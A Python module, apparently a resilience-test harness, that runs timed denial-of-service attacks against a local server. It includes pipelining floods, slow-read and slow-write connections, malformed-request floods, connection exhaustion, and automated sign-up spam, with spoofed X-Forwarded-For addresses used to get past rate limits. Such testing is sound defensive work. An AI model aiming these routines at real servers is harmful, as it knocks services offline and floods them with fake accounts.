"""What an attacker does to a server on this machine until a time is over. Each runs in a process of its own."""
import asyncio
import random
import re
import resource
import time
import urllib.parse

HOST = "127.0.0.1"
BIG = "/api/v1/taxon_concepts?per_page=500&with_eu_listings=true"


def request(target, address, *more, token="", method="GET", body=""):
    lines = [f"{method} {target} HTTP/1.1", "Host: localhost", f"X-Forwarded-For: {address}", *more]
    if token:
        lines += [f"X-Authentication-Token: {token}", f"Authorization: Bearer {token}"]
    if method == "POST":
        lines += ["Content-Type: application/x-www-form-urlencoded", f"Content-Length: {len(body)}"]
    return ("\r\n".join(lines) + "\r\n\r\n" + body).encode()


def address(number):
    """Of a network that is nobody's."""
    return f"198.18.{number // 250 % 250}.{number % 250 + 1}"


async def read_answer(reader):
    """Status, headers in lower case and body; fails when the body is not as long as it was said to be."""
    head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1").lower()
    headers = dict(line.split(": ", 1) for line in head.split("\r\n")[1:] if ": " in line)
    length = int(headers.get("content-length", 0))
    return int(head.split()[1]), head, await reader.readexactly(length) if length else b""


class Attack:
    def __init__(self, port, token, seconds):
        self.port = port
        self.token = token
        self.end = time.monotonic() + seconds

    def over(self):
        return time.monotonic() >= self.end

    async def connect(self, limit=2 ** 16):
        return await asyncio.open_connection(HOST, self.port, limit=limit)

    async def repeat(self, act, count):
        """Many at once, each again and again whatever becomes of it."""
        async def one(number):
            while not self.over():
                try:
                    await asyncio.wait_for(act(number), max(0.1, self.end - time.monotonic()))
                except (OSError, EOFError, asyncio.TimeoutError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
                    await asyncio.sleep(0.02)
        await asyncio.gather(*(one(number) for number in range(count)))

    async def hold(self, writer):
        """Until the server closes the connection or the time is over."""
        while not self.over() and not writer.transport.is_closing():
            await asyncio.sleep(0.2)
        writer.transport.abort()

    # the attacks

    async def pipelining(self):
        ahead = request(BIG, address(0), token=self.token)
        ahead *= 1_100_000 // len(ahead)

        async def act(_):
            reader, writer = await self.connect(1024)
            writer.write(ahead)  # answers are not read beyond what fits into the buffers
            await self.hold(writer)
        await self.repeat(act, 20)

    async def slow_read(self):
        async def act(number):
            reader, writer = await self.connect(1024)
            writer.write(request(BIG, address(number), token=self.token))
            while not self.over():
                if not await reader.read(512):
                    break
                await asyncio.sleep(0.5)
            writer.transport.abort()
        await self.repeat(act, 400)

    async def slow_write(self):
        async def act(number):
            _, writer = await self.connect()
            whole = request("/sign-in", address(number), method="POST", body="a" * 60_000)
            at = len(whole) - 1_000 if number % 2 else 0  # half of them a body, the others a head
            writer.write(whole[:at])
            while not self.over() and not writer.transport.is_closing():
                writer.write(whole[at:at + 1])
                at += 1
                await writer.drain()
                await asyncio.sleep(0.5)
        await self.repeat(act, 1_000)

    async def refusals(self):
        query = "?name=" + "a" * 4_000

        async def act(number):
            reader, writer = await self.connect()
            broken = number % 4 == 0
            while not self.over():
                writer.write(b"GET\t/ HTTP/1.1\r\n\r\n" if broken else request("/api/v1/taxon_concepts" + query, address(0)))
                await read_answer(reader)
                if broken:
                    writer.close()
                    return
        await self.repeat(act, 32)

    async def connections(self):
        most = min(12_000, resource.getrlimit(resource.RLIMIT_NOFILE)[0] - 200)

        async def act(_):
            reader, writer = await self.connect(1024)
            await reader.read(1)
            writer.transport.abort()
        await self.repeat(act, most)

    async def big_answers(self):
        async def act(number):
            reader, writer = await self.connect()
            writer.write(request(f"{BIG}&page={random.randint(1, 3)}", address(number), token=self.token))
            await read_answer(reader)
            writer.close()
            await asyncio.sleep(0.4)
        await self.repeat(act, 100)

    async def sign_up(self):
        async def act(number):
            reader, writer = await self.connect()
            writer.write(request("/sign-up", address(number)))
            _, head, body = await read_answer(reader)
            token = re.search(rb'name="form_token" value="([^"]*)"', body)
            cookie = re.search(r"set-cookie: ([^;\r]*)", head)
            form = urllib.parse.urlencode({
                "form_token": token.group(1).decode() if token else "", "name": "Mallory",
                "email": f"m{random.getrandbits(40)}@example.org", "password": "a long enough password",
                "organisation": "none", "country": "DE", "purpose": "research", "purpose_text": "a flood", "terms": "on"})
            writer.write(request("/sign-up", address(number), f"Cookie: {cookie.group(1) if cookie else ''}", method="POST", body=form))
            await read_answer(reader)
            writer.close()
        await self.repeat(act, 32)


NAMES = {
    "pipelining": Attack.pipelining,
    "slow-read": Attack.slow_read,
    "slow-write": Attack.slow_write,
    "refusals": Attack.refusals,
    "connections": Attack.connections,
    "big-answers": Attack.big_answers,
    "sign-up": Attack.sign_up,
}


def run(name, port, token, seconds):
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 20_000) if hard > 0 else 20_000, hard))
    asyncio.run(NAMES[name](Attack(port, token, seconds)))
